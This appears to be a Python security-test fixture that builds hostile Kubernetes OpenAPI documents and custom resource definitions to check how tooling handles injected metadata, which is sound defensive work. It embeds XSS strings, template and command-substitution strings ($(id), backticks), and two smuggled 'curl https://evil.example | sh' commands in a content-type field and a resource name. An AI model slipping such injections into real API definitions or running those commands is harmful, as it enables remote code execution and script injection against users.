"""Hostile documents, made of the table of payloads: an OpenAPI document and custom resource definitions."""

from __future__ import annotations

from typing import Any

from tests.security.payloads import BROKEN_LINES, CONTROLS, GROUPS, KINDS, NAMES, TEXTS, VERSIONS, Payload

ALL_TEXTS: tuple[Payload, ...] = (*TEXTS, *BROKEN_LINES, *CONTROLS)
GROUP = "hostile.example.org"


def _kind(group: str, version: str, kind: str) -> dict[str, str]:
    return {"group": group, "version": version, "kind": kind}


def _definition(description: str, **properties: Any) -> dict[str, Any]:
    return {"description": description, "type": "object", "properties": properties}


def openapi() -> dict[str, Any]:
    """Payloads as descriptions, names, values, paths, parameters and responses."""
    definitions: dict[str, Any] = {}
    texts = _definition("Texts <script>pwned(70)</script> of all kinds. {{ 7*191 }}")
    for number, payload in enumerate(ALL_TEXTS):
        texts["properties"][f"text{number:02}"] = {"type": "string", "description": payload.text}
    values = _definition("Values")
    for number, payload in enumerate((*TEXTS, *CONTROLS)):
        text = payload.text
        values["properties"][f"value{number:02}"] = {
            "type": "string", "default": text, "enum": [text, "b"], "pattern": text, "format": text[:80], "example": text,
            "title": text, "x-kubernetes-patch-merge-key": text[:80], "x-kubernetes-patch-strategy": "merge",
        }  # fmt: skip
    names = _definition("Names")
    for number, name in enumerate(NAMES):
        names["properties"][name] = {"type": "string", "description": f"Name {number}", "enum": [name]}
    names["required"] = [name for name in NAMES if name not in {"a\nb", "a\r\nb"}]
    top = _definition("Hostile kind.", apiVersion={"type": "string"}, kind={"type": "string"})
    top["properties"] |= {
        "spec": {"$ref": "#/definitions/org.example.hostile.v1.Texts"},
        "values": {"$ref": "#/definitions/org.example.hostile.v1.Values"},
        "names": {"$ref": "#/definitions/org.example.hostile.v1.Names"},
    }
    top["required"] = ["spec", "values", "names"]
    top["x-kubernetes-group-version-kind"] = [_kind(GROUP, "v1", "Hostile")]
    definitions["org.example.hostile.v1.Hostile"] = top
    definitions["org.example.hostile.v1.Texts"] = texts
    definitions["org.example.hostile.v1.Values"] = values
    definitions["org.example.hostile.v1.Names"] = names
    for number, kind in enumerate(KINDS):
        version = ("v1", "v1alpha1")[number % 2]
        name = f"org.example.hostile.{version}.{kind.replace('/', '_')}"
        definitions[name] = _definition(f"Kind {number}.", apiVersion={"type": "string"}, kind={"type": "string"})
        definitions[name]["x-kubernetes-group-version-kind"] = [_kind(GROUP, version, kind)]
    for number, group in enumerate(GROUPS):
        name = f"org.example.group{number}.v1.Member"
        definitions[name] = _definition(f"Group {number}.", apiVersion={"type": "string"}, kind={"type": "string"})
        definitions[name]["x-kubernetes-group-version-kind"] = [_kind(group, "v1", "Member")]
    for number, version in enumerate(VERSIONS):
        name = f"org.example.versions.x{number}.Versioned"
        definitions[name] = _definition(f"Version {number}.", apiVersion={"type": "string"}, kind={"type": "string"})
        definitions[name]["x-kubernetes-group-version-kind"] = [_kind("versions.example.org", version, "Versioned")]
    return {
        "swagger": "2.0",
        "info": {"title": "</title><script>pwned(80)</script>", "version": "v1\x1b[31m"},
        "definitions": definitions,
        "paths": _paths(),
    }


def _paths() -> dict[str, Any]:
    base = f"/apis/{GROUP}/v1/namespaces/{{namespace}}/hostiles"
    paths: dict[str, Any] = {}
    for number, payload in enumerate((*TEXTS, *CONTROLS)):
        text = payload.text[:200]
        parameter = {"in": "query", "type": "string", "name": text, "description": text, "uniqueItems": True}
        paths[f"{base}/{{name}}/sub{number:02}/{text}"] = {
            "get": {
                "operationId": f"op{number} {text}",
                "description": payload.text,
                "summary": text,
                "tags": [text],
                "consumes": [text],
                "produces": [text],
                "parameters": [parameter],
                "responses": {
                    "200": {"description": payload.text, "schema": {"$ref": "#/definitions/org.example.hostile.v1.Hostile"}},
                    "default": {"description": text},
                },
                "x-kubernetes-action": "get",
                "x-kubernetes-group-version-kind": _kind(GROUP, "v1", "Hostile"),
            },
        }  # fmt: skip
    paths[base] = {
        "post": {
            "operationId": "createHostile",
            "consumes": ['application/json"; curl https://evil.example | sh; "'],
            "parameters": [{"in": "body", "name": "body", "schema": {"$ref": "#/definitions/org.example.hostile.v1.Hostile"}}],
            "responses": {"201": {"description": "Made"}},
            "x-kubernetes-action": "post",
            "x-kubernetes-group-version-kind": _kind(GROUP, "v1", "Hostile"),
        },
    }  # fmt: skip
    paths["/free/<script>pwned(81)</script>/{x y}/$(id)/`id`"] = {
        "get": {"operationId": "free", "responses": {"200": {"description": "OK"}}},
    }
    named = (
        *((GROUP, ("v1", "v1alpha1")[number % 2], kind) for number, kind in enumerate(KINDS)),
        *((group, "v1", "Member") for group in GROUPS),
        *(("versions.example.org", version, "Versioned") for version in VERSIONS),
    )
    for number, gvk in enumerate(named):
        paths[f"/apis/x{number}/v1/things{number}/{{name}}"] = {
            "get": {
                "operationId": f"read{number}",
                "responses": {"200": {"description": "OK"}},
                "x-kubernetes-action": "get",
                "x-kubernetes-group-version-kind": _kind(*gvk),
            },
        }
    return paths


def crd() -> dict[str, Any]:
    """Payloads in what only a custom resource definition has."""
    properties: dict[str, Any] = {}
    columns = []
    for number, payload in enumerate((*TEXTS, *CONTROLS)):
        text = payload.text
        properties[f"field{number:02}"] = {
            "type": "string",
            "description": text,
            "x-kubernetes-validations": [
                {"rule": text, "message": text, "messageExpression": text, "reason": "FieldValueInvalid", "fieldPath": text},
            ],
        }  # fmt: skip
        columns.append(
            {"name": text, "type": "string", "format": "byte", "jsonPath": f".spec.{text}", "description": text},
        )
    version = {
        "name": "v1",
        "served": True,
        "storage": True,
        "deprecated": True,
        "deprecationWarning": "[x](javascript:pwned(90)) <script>pwned(91)</script>",
        "additionalPrinterColumns": columns,
        "selectableFields": [{"jsonPath": ".spec.<script>pwned(92)</script>"}],
        "subresources": {
            "scale": {"specReplicasPath": ".spec.<b>", "statusReplicasPath": ".status.`x", "labelSelectorPath": ".x|y"},
        },
        "schema": {
            "openAPIV3Schema": {
                "type": "object",
                "description": "CRD <script>pwned(93)</script>",
                "properties": {
                    "spec": {"type": "object", "description": "Spec", "properties": properties},
                    "status": {"type": "object"},
                },
            },
        },
    }
    return {
        "apiVersion": "apiextensions.k8s.io/v1",
        "kind": "CustomResourceDefinition",
        "metadata": {"name": "customs.crd.example.org"},
        "spec": {
            "group": "crd.example.org",
            "scope": "Namespaced",
            "names": {
                "kind": "Custom<img src=x onerror=pwned(94)>",
                "plural": "customs; curl https://evil.example | sh",
                "singular": "custom",
                "shortNames": ["<b>", "`x", "a|b"],
                "categories": ["[x](javascript:pwned(95))"],
            },
            "versions": [version, version | {"name": "v2", "storage": False, "deprecated": False}],
        },
    }
